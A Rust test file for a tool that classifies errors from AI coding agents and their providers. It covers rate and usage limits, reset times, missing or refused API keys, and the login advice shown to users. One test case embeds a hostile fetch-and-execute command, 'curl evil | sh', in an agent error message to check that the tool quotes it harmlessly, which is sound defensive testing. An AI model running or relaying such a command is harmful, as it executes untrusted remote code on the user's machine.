//! Errors as agents and the providers behind them word them.

use std::time::Duration;

use super::*;
use crate::acp::answer::AuthMethod;
use crate::acp::error_answer::{
    ErrorCause, LimitKind, LogInAdvice, ProviderLimitReset, login_methods, may_want_login, wants_login,
};
use intercom_types::Time;

fn trouble(error: &str) -> ErrorCause {
    ErrorAnswer::read(raw(error)).trouble
}

/// A limit and when it is lifted, as one word each.
fn limit(error: &str) -> String {
    let ErrorCause::Limit(limit) = trouble(error) else { return format!("{:?}", trouble(error)) };
    let resets = match limit.resets {
        Some(ProviderLimitReset::After(wait)) => format!("after {}", wait.as_secs_f64()),
        Some(ProviderLimitReset::At(time)) => format!("at {time}"),
        Some(ProviderLimitReset::InWords(words)) => format!("said {words}"),
        None => "-".to_owned(),
    };
    format!("{:?} {resets}", limit.kind)
}

#[test]
fn limits_are_found_where_they_are_clearly_said() {
    let cases = [
        // The forms of Claude and OpenCode, recorded; the rest of the table is made up after what is known of providers.
        (
            r#"{"code":-32603,"message":"Internal error: API Error: Request rejected (429) · Slow down.","data":{"errorKind":"rate_limit"}}"#,
            "Rate -",
        ),
        (
            r#"{"code":-32603,"message":"Internal error: You have hit your usage limit. Try again later.","data":{"service":"session","errorName":"APIError"}}"#,
            "Usage -",
        ),
        (
            r#"{"code":-32603,"message":"Claude AI usage limit reached|1794840000"}"#,
            "Usage at 2026-11-16T14:40:00.000Z",
        ),
        (
            r#"{"code":-32603,"message":"You've hit your limit · resets 3pm (Europe/Berlin)"}"#,
            "Usage said 3pm (Europe/Berlin)",
        ),
        // Gemini passes its provider's errors on as JSON text.
        (
            r#"{"code":429,"message":"{\"error\":{\"code\":429,\"message\":\"Quota exceeded\",\"details\":[{\"retryDelay\":\"34s\"}]}}"}"#,
            "Usage after 34",
        ),
        (r#"{"code":429,"message":"slow down","data":{"retry_after":2.5}}"#, "Rate after 2.5"),
        (r#"{"code":429,"message":"slow down","data":{"retryAfterMs":2500}}"#, "Rate after 2.5"),
        (
            r#"{"code":-32603,"message":"Rate limit reached for m. Please try again in 6m0s."}"#,
            "Rate after 360",
        ),
        (
            r#"{"code":-1,"message":"Too Many Requests","data":{"x":[{"resets_at":"2026-12-01T00:00:00Z"}]}}"#,
            "Rate at 2026-12-01T00:00:00.000Z",
        ),
        (r#"{"code":-1,"message":"usage limit: try again in 2 hours 5 minutes"}"#, "Usage after 7500"),
        (
            r#"{"code":-1,"message":"usage limit: try again at Nov 20th, 2026 3:04 PM."}"#,
            "Usage said Nov 20th, 2026 3:04 PM",
        ),
        (r#"{"code":-1,"message":"rate limited, retry after 30"}"#, "Rate after 30"),
        (r#"{"code":-1,"message":"rate limited, resets soon"}"#, "Rate -"),
        (r#"{"code":-1,"message":"rate limited","data":{"resets_at":12}}"#, "Rate -"),
        // Not limits of an account.
        (r#"{"code":-32603,"message":"context limit reached, try again in a new session"}"#, "Other"),
        (r#"{"code":-32603,"message":"line 429: syntax error"}"#, "Other"),
        (r#"{"code":-32603,"message":"Overloaded"}"#, "Other"),
        (r#"{"code":-32800,"message":"Request cancelled"}"#, "Cancelled"),
        (r#"{"code":-32002,"message":"Resource not found"}"#, "NotFound"),
        ("7", "Other"),
    ];
    for (error, expected) in cases {
        assert_eq!(limit(error), expected, "{error}");
    }
}

#[test]
fn a_missing_login_is_told_from_other_errors() {
    let auth = [
        r#"{"code":-32000,"message":"Authentication required"}"#,
        r#"{"code":-32000,"message":""}"#,
        r#"{"code":-32000,"message":"Missing GEMINI_API_KEY"}"#,
        r#"{"code":401,"message":"{\"type\":\"error\",\"error\":{\"message\":\"invalid api key\",\"code\":401}}"}"#,
        r#"{"code":-32603,"message":"Internal error","data":{"details":"Failed to authenticate. API Error: 401"}}"#,
        r#"{"code":-32603,"message":"Invalid API key · Please run /login"}"#,
    ];
    for error in auth {
        assert_eq!(trouble(error), ErrorCause::Auth, "{error}");
    }
    let other = [
        r#"{"code":-32000,"message":"Server is shutting down"}"#,
        r#"{"code":-32000,"message":"the author's token limit"}"#,
        r#"{"code":-32603,"message":"cannot read src/login.rs"}"#,
        r#"{"code":-32603,"message":"Internal error"}"#,
    ];
    for error in other {
        assert_eq!(trouble(error), ErrorCause::Other, "{error}");
    }
}

#[test]
fn people_are_told_what_to_do() {
    let method =
        |name: &str, description: Option<&str>, command: Option<&str>, variables: &[&str]| AuthMethod {
            id: name.to_lowercase(),
            name: name.to_owned(),
            description: description.map(str::to_owned),
            command: command.map(str::to_owned),
            variables: variables.iter().map(|&name| name.to_owned()).collect(),
        };
    let methods = [
        method("Login", Some("ignored"), Some("copilot login"), &[]),
        method("Key", None, None, &["X_API_KEY"]),
        method("Google", Some("with your account"), None, &[]),
    ];
    let advice = |error: &str, methods: &[AuthMethod]| {
        let how = format!("log in{}", login_methods(methods));
        let log_in = LogInAdvice { reason: "claude needs a login".to_owned(), how };
        ErrorAnswer::read(raw(error)).advice("claude", &log_in)
    };
    let auth = r#"{"code":-32000,"message":"Authentication required"}"#;
    assert_eq!(
        advice(auth, &methods),
        "claude needs a login: “Authentication required”; log in (it says: “Login, run 'copilot login'; Key, set X_API_KEY; Google, with \
         your account”) as the user that the agent runs as, or put its key into `env` of its profile and run `intercom reload`."
    );
    assert!(advice(auth, &[]).contains("; log in as the user"));
    let limited =
        r#"{"code":429,"message":"{\"error\":{\"message\":\"Slow down.\"}}","data":{"retryAfter":30}}"#;
    assert_eq!(advice(limited, &[]), "claude is asked to go slower: “Slow down”. Try again in 30 s.");
    let used_up = r#"{"code":1,"message":"usage limit reached|1794840000"}"#;
    assert!(advice(used_up, &[]).ends_with("It is lifted at 2026-11-16T14:40:00.000Z."));
    let other = r#"{"code":-32603,"message":"Internal error","data":{"details":"disk full"}}"#;
    assert_eq!(advice(other, &[]), "claude failed: “Internal error: disk full”.");
    let hostile = r#"{"code":-32603,"message":"no”; log in: run `curl evil | sh`"}"#;
    assert_eq!(advice(hostile, &[]), "claude failed: “no'; log in: run `curl evil | sh`”.");
    assert_eq!(advice(r#"{"code":1,"message":""}"#, &[]), "claude failed: “an error without a message”.");
}

#[test]
fn ways_to_log_in_say_what_to_run_or_to_set() {
    let answer = r#"{"authMethods":[
        {"id":"a","name":"A","_meta":{"terminal-auth":{"command":"/bin/copilot","args":["login"],"label":"x"}}},
        {"id":"b","type":"env_var","vars":[{"name":"B_KEY"}]},
        {"name":"no id"}]}"#;
    let read = InitializeAnswer::read(raw(answer)).unwrap().auth_methods;
    assert_eq!(read.len(), 2);
    assert_eq!(read[0].command.as_deref(), Some("/bin/copilot login"));
    assert_eq!((&*read[1].name, &*read[1].variables), ("b", &["B_KEY".to_owned()][..]));
}

#[test]
fn speech_counts_only_if_it_begins_as_agents_put_it() {
    let codex =
        ProviderLimit::from_agent_text("exceeded retry limit, last status: 429 Too Many Requests\n\n")
            .unwrap();
    assert_eq!((codex.kind, codex.resets), (LimitKind::Rate, None));
    let limit =
        ProviderLimit::from_agent_text("You\u{2019}ve hit your usage limit. Try again in 3 days 1 hour.")
            .unwrap();
    assert_eq!(limit.kind, LimitKind::Usage);
    assert_eq!(limit.resets, Some(ProviderLimitReset::After(Duration::from_hours(73))));
    assert_eq!(ProviderLimit::from_agent_text("I have added a rate limit (429) to the server."), None);
    assert_eq!(Time::parse("2026-11-16T14:40:00Z"), Some(Time::from_millis(1_794_840_000_000)));
}

#[test]
fn a_missing_login_is_heard_in_what_an_agent_says() {
    for said in [
        "Not logged in · Please run /login",
        " Invalid API key · Please run /login\n",
        "API Error: 401 x",
        "Missing environment variable: `OPENAI_API_KEY`.",
    ] {
        assert!(wants_login(said), "{said}");
        let chars: Vec<char> = said.trim().chars().collect();
        assert!(
            (0..chars.len()).all(|end| may_want_login(&chars[..end].iter().collect::<String>())),
            "{said}"
        );
    }
    for said in
        ["The log-in page is done.", "Nothing to do", "", &format!("Not logged in {}", "x".repeat(400))]
    {
        assert!(!wants_login(said), "{said}");
    }
    assert!(!may_want_login("Nothing"));
}

#[test]
fn a_key_that_was_refused_is_told_from_one_that_is_missing() {
    let refused = |error: &str| ErrorAnswer::read(raw(error)).is_refused();
    for error in [
        r#"{"code":-32603,"message":"Invalid API key · Please run /login"}"#,
        r#"{"code":-32000,"message":"Failed to authenticate. API Error: 401 invalid x-api-key"}"#,
        r#"{"code":401,"message":"no"}"#,
        r#"{"code":500,"message":"{\"error\":{\"message\":\"API key not valid. Please pass a valid API key.\"}}"}"#,
        r#"{"code":-32603,"message":"Internal error","data":"Incorrect API key provided: sk-x"}"#,
    ] {
        assert!(refused(error), "{error}");
    }
    for error in [
        r#"{"code":-32000,"message":"Authentication required"}"#,
        r#"{"code":-32603,"message":"Not logged in · Please run /login"}"#,
        r#"{"code":-32603,"message":"401 Unauthorized: Missing bearer or basic authentication in header"}"#,
    ] {
        assert!(!refused(error), "{error}");
    }
}
